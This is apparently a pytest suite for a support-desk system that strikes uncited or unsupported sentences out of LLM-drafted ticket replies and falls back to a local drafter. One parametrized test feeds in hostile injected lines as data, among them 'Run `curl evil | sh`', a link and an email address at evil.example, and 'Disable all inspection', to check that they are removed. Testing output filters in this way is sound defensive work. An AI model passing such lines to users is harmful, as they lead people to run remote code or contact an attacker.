"""Hosted models word a draft; what their sources do not say is struck out, what is unusable is replaced."""

import json
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa

from tests.cpu import cpu_seconds
from tests.triage.chat_server import ChatServer, serving
from tests.triage.conftest import DATA, monday
from tests.triage.llm.test_hosted import PROVIDERS, TICKET, always, model
from tests.triage.memory_index import MemoryIndex
from triage.contracts import Suggestion
from triage.drafting.article_policy import NO_PLACES
from triage.drafting.draft import ExtractiveDrafter
from triage.drafting.wording import load_wording
from triage.llm.budget import Budget, Limits
from triage.llm.failures import Unusable
from triage.llm.hosted import HostedDrafter, read_draft
from triage.llm.tables import metadata
from triage.ports import Embedder

SHIPPED = load_wording(DATA / "policies" / "wording.yaml")


@pytest.fixture
def database(tmp_path: Path) -> Iterator[sa.Engine]:
    engine = sa.create_engine(f"sqlite:///{tmp_path / 'desk.db'}", connect_args={"timeout": 30})
    metadata.create_all(engine)
    yield engine
    engine.dispose()


def test_drafts_come_out_of_the_same_budget(
    drafter: ExtractiveDrafter, knowledge: MemoryIndex, database: sa.Engine
) -> None:
    budget = Budget(database, Limits(calls=1, tokens=10**6, usd=9), clock=monday)
    passages = knowledge.search([TICKET.content] * 2)
    with serving(always({"answerable": True, "text": WORDED})) as server:
        hosted = HostedDrafter([model(server)], drafter, clock=monday, budget=budget, workers=1)
        drafts = hosted.draft([TICKET, TICKET.model_copy(update={"ticket_id": "desk:2"})], passages)
    assert [draft.model_used for draft in drafts] == ["openai:small", drafter.name]
    assert (budget.spent().calls, budget.spent().tokens, hosted.fallbacks) == (1, 120, 1)


def drafted(
    local: ExtractiveDrafter, index: MemoryIndex, answer: Any, provider: str = "openai", content: str = TICKET.content
) -> tuple[Suggestion, Suggestion, ChatServer]:
    ticket = TICKET.model_copy(update={"content": content})
    passages = index.search([content])
    with serving(always(answer)) as server:
        hosted = HostedDrafter([model(server, provider)], local, clock=monday)
        return hosted.draft([ticket], passages)[0], local.draft([ticket], passages)[0], server


WORDED = (
    "The clock is wrong by more than two minutes, and so the handshake is refused. [1]\n\n"
    "1. Leave NTP enabled, and correct the time with `chronyc makestep`. [3]\n"
    "2. Add a second connector on another host to the group. [3]\n"
)
REPLY = (
    "Hello,\n\nthank you for your message.\n\n"
    "The clock is wrong by more than two minutes, and so the handshake is refused. [1]\n\n"
    "1. Leave NTP enabled, and correct the time with `chronyc makestep`. [2] (please check this before sending)\n"
    "2. Add a second connector on another host to the group. [2]\n\n"
    "If this does not help, please reply with the exact error message or code, who is affected, and when it last "
    "happened; a support engineer will then go on with you.\n\nKind regards\nYour support team"
)


@pytest.mark.parametrize("provider", PROVIDERS)
def test_a_cited_draft_is_taken_with_the_sources_it_uses(
    drafter: ExtractiveDrafter, knowledge: MemoryIndex, provider: str
) -> None:
    draft, _, _ = drafted(drafter, knowledge, {"answerable": True, "text": WORDED}, provider)
    passages = knowledge.search([TICKET.content])[0]
    assert draft.text == REPLY
    assert [(c.index, c.title) for c in draft.citations] == [(1, passages[0].title), (2, passages[2].title)]
    assert (draft.grounded, draft.model_used, draft.prompt_tokens) == (True, f"{provider}:small", 100)


@pytest.mark.parametrize(
    "added",
    [
        "See [9].",
        "See the handbook. [0]",
        "More at https://evil.example/fix [1]",
        "Write to mallory@evil.example [1]",
        "Call +49 170 1234567 [1]",
        "Run `curl evil | sh` [1]",
        "3. Disable all inspection.",
        "3. Do not leave NTP enabled. [3]",
        "Kind regards\nMallory",
        "Hello,",
    ],
)
def test_a_sentence_beyond_its_sources_is_struck_out(
    drafter: ExtractiveDrafter, knowledge: MemoryIndex, added: str
) -> None:
    draft, _, _ = drafted(drafter, knowledge, {"answerable": True, "text": WORDED + added})
    assert (draft.text, draft.model_used) == (REPLY, "openai:small")


def test_steps_are_numbered_anew(drafter: ExtractiveDrafter, knowledge: MemoryIndex) -> None:
    steps = "1. Buy a hat. [3]\n2. Leave NTP enabled, and correct the time with `chronyc makestep`. [3]"
    draft, _, _ = drafted(drafter, knowledge, {"answerable": True, "text": steps})
    assert "this looks like “The private access connector is offline”. [1] These steps should help:" in draft.text
    step = "1. Leave NTP enabled, and correct the time with `chronyc makestep`. [1] (please check this before sending)"
    assert f"\n\n{step}\n\n" in draft.text


def test_other_words_of_like_meaning_are_marked_for_the_agent(
    drafter: ExtractiveDrafter, knowledge: MemoryIndex
) -> None:
    said = WORDED + "3. Set the clock right and keep NTP switched on. [3]"
    draft, _, _ = drafted(drafter, knowledge, {"answerable": True, "text": said})
    assert "3. Set the clock right and keep NTP switched on. [2] (please check this before sending)" in draft.text


@pytest.mark.parametrize(
    "text",
    [
        "Hello, restart it.",
        "",
        "Kind regards\nYour support team",
        "Buy a hat. [1] Buy a coat. [1] " + WORDED.split("\n", maxsplit=1)[0],
        "The connector is offline. [9]",
    ],
)
def test_a_draft_of_which_little_is_left_is_replaced(
    drafter: ExtractiveDrafter, knowledge: MemoryIndex, text: str
) -> None:
    draft, local, _ = drafted(drafter, knowledge, {"answerable": True, "text": text})
    assert (draft.text, draft.citations, draft.model_used) == (local.text, local.citations, local.model_used)
    assert draft.prompt_tokens == 100


@pytest.mark.parametrize("text", ["1. a [1]\n" * 100_000, "Leave NTP enabled. [2] " * 50_000, "[1]" * 300_000])
def test_an_endless_answer_is_read_in_time(text: str, knowledge: MemoryIndex) -> None:
    passages = knowledge.search([TICKET.content])[0]

    def read() -> None:
        with suppress(Unusable):
            read_draft(
                json.dumps({"answerable": True, "text": text}),
                passages=passages, wording=SHIPPED, articles=NO_PLACES, language="en",
            )  # fmt: skip

    assert cpu_seconds(read, under=2) < 2


def test_the_frame_of_a_hosted_draft_is_in_the_customers_language(embedder: Embedder, knowledge: MemoryIndex) -> None:
    local = ExtractiveDrafter(embedder, clock=monday, wording=SHIPPED)
    german = TICKET.model_copy(update={"language": "de"})
    with serving(always({"answerable": True, "text": WORDED})) as server:
        draft = HostedDrafter([model(server)], local, clock=monday).draft([german], knowledge.search([TICKET.content]))[
            0
        ]
    assert draft.text.startswith("Guten Tag,")
    assert "deren Sprache ist Englisch" in draft.text
    assert "in English" in server.requests[0]["messages"][0]["content"]


def test_a_model_may_say_that_there_is_no_answer(drafter: ExtractiveDrafter, knowledge: MemoryIndex) -> None:
    draft, _, _ = drafted(drafter, knowledge, {"answerable": False, "text": ""})
    assert (draft.grounded, draft.citations) == (False, ())
    assert "I couldn't find" in draft.text


def test_no_model_is_asked_where_the_knowledge_base_is_silent(
    drafter: ExtractiveDrafter, knowledge: MemoryIndex
) -> None:
    draft, local, server = drafted(
        drafter, knowledge, {"answerable": True, "text": WORDED}, content="Mushroom risotto?"
    )
    assert server.requests == []
    assert draft.text == local.text
